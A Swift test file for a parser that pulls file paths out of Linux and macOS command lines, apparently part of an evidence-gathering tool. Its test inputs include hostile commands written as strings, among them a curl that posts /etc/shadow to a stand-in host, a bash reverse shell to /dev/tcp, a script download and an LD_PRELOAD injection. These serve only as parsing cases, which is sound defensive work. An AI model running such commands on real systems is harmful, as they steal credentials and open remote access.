import Evidence
import Testing

/// Command lines of Linux and macOS, with the files they name.
struct PosixCommandLineTests {
  static let commandLines: [(String, [String])] = [
    ("/usr/bin/cat /etc/passwd", ["/etc/passwd"]), ("cat /etc/passwd /etc/passwd", ["/etc/passwd"]),
    ("tar -czf /tmp/x.tgz -C / etc", ["/tmp/x.tgz"]), ("dd if=/dev/sda of=/tmp/disk.img", ["/tmp/disk.img"]),
    ("gcc -I/usr/include -o/tmp/a /tmp/a.c", ["/usr/include", "/tmp/a", "/tmp/a.c"]),
    ("curl http://h.test/a/b.sh -o /tmp/a.sh", ["/tmp/a.sh"]),
    ("curl -d @/etc/shadow https://h.test/x", ["/etc/shadow"]),
    ("wget --output-document=/tmp/x h.test/y/z", ["/tmp/x"]),
    ("scp /tmp/a user@host:/tmp/b", ["/tmp/a"]), ("rsync host:/a/b c:/d /e/f", ["/e/f"]),
    ("docker run -v /etc/x:/mnt/y image", ["/etc/x", "/mnt/y"]),
    ("bash -i >& /dev/tcp/10.0.0.1/443 0>&1", []),
    ("sh -c 'cat /etc/passwd > /tmp/o; chmod +x /tmp/p'", ["/etc/passwd", "/tmp/o", "/tmp/p"]),
    ("bash -c \"/tmp/a b\" && /tmp/c|/tmp/d&", ["/tmp/a b", "/tmp/c", "/tmp/d"]),
    ("cat '/tmp/a b' \"/tmp/c d\" /tmp/e\\ f", ["/tmp/a b", "/tmp/c d", "/tmp/e f"]),
    ("rm -rf /tmp/*.sh /tmp/a? /tmp/[ab]", []), ("cat /tmp/$X/a ${HOME}/b ~/c ./d ../e f/g", []),
    ("nohup /tmp/x >/dev/null 2>/tmp/err </dev/null", ["/tmp/x", "/tmp/err"]),
    ("cp /dev/shm/.x /opt/y", ["/dev/shm/.x", "/opt/y"]),
    ("ls / /tmp/ //x", []), ("export LD_PRELOAD=/tmp/a.so:/tmp/b.so", ["/tmp/a.so", "/tmp/b.so"]),
    ("echo $(/tmp/x) `/tmp/y` (/tmp/z)", ["/tmp/x", "/tmp/y", "/tmp/z"]),
    ("open file:///tmp/x.html", ["/tmp/x.html"]),
    ("'/opt/my app/run' /tmp/x", ["/tmp/x"]), ("/opt/my\\ app/run /tmp/x", ["/tmp/x"]),
    ("sudo -u root /usr/bin/id", ["/usr/bin/id"]), ("cat /tmp/日本 /tmp/é", ["/tmp/日本", "/tmp/é"]), ("", []),
    ("'", []),
    ("x '/tmp/unclosed a", ["/tmp/unclosed"]), ("x /tmp/a,/tmp/b, /tmp/c:", ["/tmp/a", "/tmp/b", "/tmp/c"]),
    ("find /tmp/x -exec /bin/rm {} \\;", ["/tmp/x", "/bin/rm"]),
    ("python3 -c 'open(\"/etc/hosts\")'", ["/etc/hosts"]),
  ]

  @Test(arguments: commandLines)
  func `names the files of a command line`(commandLine: String, files: [String]) {
    #expect(NamedFiles.paths(commandLine: commandLine, arguments: [], isWindows: false) == files)
  }

  @Test(arguments: [
    (["/bin/cat", "/tmp/a b", "/tmp/c"], ["/tmp/a b", "/tmp/c"]),
    (["bash", "-c", "/tmp/run me"], ["/tmp/run"]),
    (["bash", "-lc", "/tmp/a -x /tmp/b"], ["/tmp/a", "/tmp/b"]),
    (["x", "--out=/tmp/a b"], ["/tmp/a b"]), (["x", "/tmp/a -v /tmp/b"], ["/tmp/a", "/tmp/b"]),
    (["x", "PATH=/a/b:/c/d"], ["/a/b", "/c/d"]), (["/bin/x"], []), (["x", "https://h/a"], []),
  ])
  func `arguments count more than the command line`(arguments: [String], files: [String]) {
    #expect(
      NamedFiles.paths(commandLine: "x /not/this", arguments: arguments, isWindows: false)
        == (arguments.count > 1 ? files : ["/not/this"]))
  }
}
